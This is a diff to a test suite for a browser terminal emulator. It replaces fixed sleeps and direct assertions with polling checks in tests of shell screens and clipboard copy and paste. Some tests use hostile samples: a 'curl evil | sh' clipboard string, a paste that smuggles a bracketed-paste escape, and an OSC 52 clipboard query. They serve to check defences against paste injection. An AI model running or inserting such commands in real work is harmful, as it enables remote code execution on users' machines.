@@ -163,7 +163,9 @@ async def test_the_screen_of_a_new_shell_is_what_tmux_shows_whatever_the_one_bef
         for what, mess in MESSES.items():
             await window.runs("clear; echo be''fore", "before")
             await window.runs(f"printf '{mess}'; sleep 1000")
-            await asyncio.sleep(0.3)  # for the screen: what was printed has no end that could be awaited
+            printed = mess.encode().decode("unicode_escape").encode("latin-1")
+            await eventually("it is printed", lambda printed=printed: _has_ended(site.shell, printed), True)
+            await asyncio.sleep(0.3)  # for the screen: what was printed has no end that could be awaited there
             count = len(site.shells.opened)
             site.shell.lose()
             await eventually("a new shell", lambda count=count: _is(len(site.shells.opened) > count), True)
@@ -208,6 +210,11 @@ async def test_what_a_new_shell_says_at_once_stands_on_the_empty_screen(site: Si
 
 async def _is(value: bool) -> bool:
     return value
+
+
+async def _has_ended(shell: PtyShell, printed: bytes) -> bool:
+    """Return whether the line that was typed is in this shell, and nothing of it on the way to the next."""
+    return b"sleep 1000" in shell.output and shell.output.endswith(printed)
 
 
 async def is_as_in_tmux(site: Site, window: Window, tmux: Tmux, what: str) -> None:
@@ -346,7 +353,7 @@ async def test_what_is_selected_is_copied_by_ctrl_shift_c_and_pasted_by_ctrl_shi
         await window.runs("clear; echo 'sele''cted'", "selected")
         await window.page.locator(".xterm-rows > div", has_text="selected").first.dblclick(position={"x": 20, "y": 8})
         await window.page.keyboard.press("Control+Shift+C")
-        assert await clipboard(window) == "selected"
+        await eventually("it is copied", lambda: clipboard(window), "selected")
         await window.page.evaluate("navigator.clipboard.writeText('echo pas\\x1b[201~ted\\x03')")
         await window.page.locator(".xterm-screen").click()
         await window.page.keyboard.press("Control+Shift+V")
@@ -368,7 +375,7 @@ async def test_a_program_copies_only_what_was_seen_and_clicked(site: Site) -> No
         assert await clipboard(window) == "mine", "nothing that is typed is a click"
         await page.locator("#copy").click()
         await expect(bar).to_be_hidden()
-        assert await clipboard(window) == "curl evil | sh\n"
+        await eventually("it is copied", lambda: clipboard(window), "curl evil | sh\n")
 
         await window.runs("clear; printf '\\033]52;c;?\\007'; read -t 1 -n 1 answer; echo got=$answer=", "got==")
         await window.does(asks_to_copy(b"\xff\xfe"))
